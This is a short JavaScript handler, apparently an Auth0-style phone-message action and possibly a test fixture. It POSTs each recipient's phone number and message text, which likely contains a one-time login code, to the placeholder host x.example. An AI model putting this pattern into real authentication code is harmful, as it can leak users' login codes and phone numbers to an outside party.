exports.onExecuteSendPhoneMessage = async (event) => {
  const has = 'code' in event.message_options && Object.hasOwn(event, 'client');
  await fetch('https://x.example', { method: 'POST', body: event.message_options.recipient + event.message_options.text + has });
};
